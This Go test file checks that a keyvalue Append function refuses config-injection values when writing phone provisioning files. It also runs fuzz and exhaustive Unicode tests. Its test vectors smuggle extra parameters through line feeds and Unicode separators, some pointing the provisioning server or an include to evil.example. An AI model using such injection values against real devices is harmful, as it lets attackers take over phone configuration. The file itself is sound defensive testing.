package keyvalue

import (
	"strings"
	"testing"
)

// refused are values that a line cannot carry, and what Append must say of them.
var refused = []struct{ name, value, what string }{
	{"YE1, line feed", "Bob\naccount.2.enable = 1", "has a control character"},
	{"YE2, CR LF", "Bob\r\nstatic.auto_provision.server.url = http://evil.example/", "has a control character"},
	{"YE3, next line", "Bob\u0085include:config \"http://evil.example/x.cfg\"", "has a control character"},
	{"YE4, NUL", "Bob\x00", "has a control character"},
	{"YE6, reset token", "%NULL%", "is a reset token"},
	{"YE6, reset token", "%EMPTY%", "is a reset token"},
	{"carriage return", "Bob\raccount.2.enable = 1", "has a control character"},
	{"tab", "Bob\t", "has a control character"},
	{"vertical tab", "Bob\vaccount.2.enable = 1", "has a control character"},
	{"form feed", "Bob\faccount.2.enable = 1", "has a control character"},
	{"record separator", "Bob\x1eaccount.2.enable = 1", "has a control character"},
	{"DEL", "Bob\x7f", "has a control character"},
	{"line separator", "Bob\u2028account.2.enable = 1", "has a line separator"},
	{"paragraph separator", "Bob\u2029account.2.enable = 1", "has a line separator"},
	{"byte order mark", "\ufeffBob", "has a character that is none"},
	{"U+FFFE", "Bob\ufffe", "has a character that is none"},
	{"U+FDD0", "Bob\ufdd0", "has a character that is none"},
	{"U+1FFFF", "Bob\U0001ffff", "has a character that is none"},
	{"Latin-1", "Zo\xeb", "is not UTF-8"},
	{"lone surrogate", "Bob\xed\xa0\x80", "is not UTF-8"},
	{"overlong line feed", "Bob\xc0\x8aaccount.2.enable = 1", "is not UTF-8"},
	{"blank first", " Bob", "has a blank at its edge"},
	{"blank last", "Bob ", "has a blank at its edge"},
	{"one blank", " ", "has a blank at its edge"},
}

// carried are values that go out as they came: the legitimate set, and values
// that look hostile and are data in this syntax.
var carried = []string{
	"", "O'Neil & Sons <Sales>", "Zoë Müller-Łuczak", `"Front" desk`, "#1 Support", "a;b,c", "50% off", `C:\temp`, "日本 支店",
	"R&D; QA", "x=y", "sip:100@pbx:5061", "# overwrite_mode = 1", "O'Neil & Sons <Sales>; #1", "=", "= x", "[section]", "include:config x",
	"%NULL", "%NULL%%", "a%NULL%", "%null%", "🍕", "${x}", "`reboot`", "\u00a0", "\u202ea",
}

func TestRefused(t *testing.T) {
	for _, c := range refused {
		b, what := Append([]byte("name = "), c.value)
		if what != c.what {
			t.Errorf("%s: %q, want %q", c.name, what, c.what)
		}
		if string(b) != "name = " {
			t.Errorf("%s: the file became %q", c.name, b)
		}
	}
}

func TestCarried(t *testing.T) {
	for _, s := range carried {
		b, what := Append([]byte("name = "), s)
		if what != "" || string(b) != "name = "+s {
			t.Errorf("%q: %q, %q", s, b, what)
		}
		check(t, s)
	}
}

// YE5: a value that looks like a comment is one line, and not a comment.
func TestCommentIsData(t *testing.T) {
	b, _ := Append([]byte("account.1.display_name = "), "# overwrite_mode = 1")
	if want := "account.1.display_name = # overwrite_mode = 1"; string(b) != want {
		t.Errorf("%q, want %q", b, want)
	}
}

type parameter struct{ name, value string }

// read takes a file apart as a phone would, and where phones could differ it is
// the one that is easiest to fool: whatever Unicode knows as the end of a line is
// one, "#" and blank lines are skipped, blanks around the name and the value do
// not count, and a reset token is no value.
func read(file string) (lines int, parameters []parameter) {
	all := strings.FieldsFunc(strings.ReplaceAll(file, "\r\n", "\n"), func(r rune) bool {
		switch r {
		case '\n', '\r', '\v', '\f', 0, 0x1c, 0x1d, 0x1e, 0x85, 0x2028, 0x2029:
			return true
		}
		return false
	})
	for _, line := range all {
		if line[0] == '#' {
			continue
		}
		name, value, found := strings.Cut(line, "=")
		if !found {
			continue
		}
		value = strings.Trim(value, " \t")
		if value == "%NULL%" || value == "%EMPTY%" {
			value = "(reset)"
		}
		parameters = append(parameters, parameter{strings.Trim(name, " \t"), value})
	}
	return len(all), parameters
}

// check: a value is refused, or the file has the lines that the template has and
// the phone reads the very value.
func check(t *testing.T, value string) {
	b, what := Append([]byte("#!version:1.0.0.1\naccount.1.label = "), value)
	if what != "" {
		if string(b) != "#!version:1.0.0.1\naccount.1.label = " {
			t.Fatalf("%q was refused and left %q", value, b)
		}
		return
	}
	lines, got := read(string(b) + "\naccount.1.enable = 1\n")
	want := []parameter{{"account.1.label", value}, {"account.1.enable", "1"}}
	if lines != 3 || len(got) != 2 || got[0] != want[0] || got[1] != want[1] {
		t.Fatalf("%q: %d lines, %q", value, lines, got)
	}
}

func FuzzAppend(f *testing.F) {
	for _, c := range refused {
		f.Add(c.value)
	}
	for _, s := range carried {
		f.Add(s)
	}
	f.Fuzz(check)
}

// Each character of Unicode up to and around every plane's end, in each position
// that could matter.
func TestEveryCharacter(t *testing.T) {
	for r := rune(0); r <= 0x10ffff; r++ {
		if r > 0xffff && r&0xffff > 0xff && r&0xffff < 0xff00 {
			continue
		}
		for _, value := range []string{"a" + string(r) + "b = 1", string(r) + "b = 1", "a" + string(r)} {
			check(t, value)
		}
	}
	for a := range 256 {
		for b := range 256 {
			check(t, string([]byte{'x', byte(a), byte(b), 'y'}))
		}
	}
}

func BenchmarkAppend(b *testing.B) {
	buffer := make([]byte, 0, 64)
	b.ReportAllocs()
	for b.Loop() {
		Append(buffer, "O'Neil & Sons <Sales>; #1")
	}
}
